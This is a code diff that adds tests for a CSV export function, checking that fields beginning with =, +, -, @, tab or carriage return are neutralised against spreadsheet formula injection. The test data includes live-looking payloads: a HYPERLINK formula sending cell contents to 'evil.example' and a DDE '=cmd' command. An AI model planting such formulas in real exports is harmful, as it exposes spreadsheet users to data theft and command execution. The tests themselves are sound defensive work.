@@ -25,6 +25,44 @@ describe('csvField', () => {
   });
 });
 
+describe('formula injection (OWASP): text that a spreadsheet would run', () => {
+  it.each([
+    ['=HYPERLINK("http://evil.example/?x="&A1,"click")', `"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`],
+    ["=cmd|'/c calc'!A", "'=cmd|'/c calc'!A"],
+    ['+1+cmd', "'+1+cmd"],
+    ['-2+3', "'-2+3"],
+    ['@SUM(A1:A2)', "'@SUM(A1:A2)"],
+    ['\t=1+1', "'\t=1+1"],
+    ['\r=1+1', `"'\r=1+1"`],
+    ['-5', "'-5"],
+  ] as const)('text %j is written as %j', (input, out) => {
+    expect(csvField(input)).toBe(out);
+  });
+
+  it('keeps text that only contains those characters as it is', () => {
+    expect(csvField('沪A-12345')).toBe('沪A-12345');
+    expect(csvField('a=b')).toBe('a=b');
+    expect(csvField('J-1@x')).toBe('J-1@x');
+  });
+
+  it('keeps numbers the app writes numeric: a negative change stays a negative number', () => {
+    expect(csvField(-3)).toBe('-3');
+    expect(csvField(-0.5)).toBe('-0.5');
+    expect(parseCsv(toCsv(['Change', 'Plate'], [[-12.5, '-12.5']]))[1]).toEqual(['-12.5', "'-12.5"]);
+  });
+
+  it('neutralises every field of a row, the header too, and reads back as text with its quote', () => {
+    const csv = toCsv(['=A1', 'ok'], [["=cmd|'/c calc'!A", '@x']]);
+    expect(parseCsv(csv)).toEqual([
+      ["'=A1", 'ok'],
+      ["'=cmd|'/c calc'!A", "'@x"],
+    ]);
+    for (const line of csv.slice(1).split('\r\n').filter(Boolean)) {
+      for (const field of parseCsv(line)[0]!) expect(field).not.toMatch(/^[=+\-@\t\r]/);
+    }
+  });
+});
+
 describe('toCsv', () => {
   it('starts with a BOM, has a header row and ends every line with CRLF', () => {
     const csv = toCsv(['Technician', 'Utilisation (%)'], [['张伟', 78.1], ['Li, Qiang', null]]);
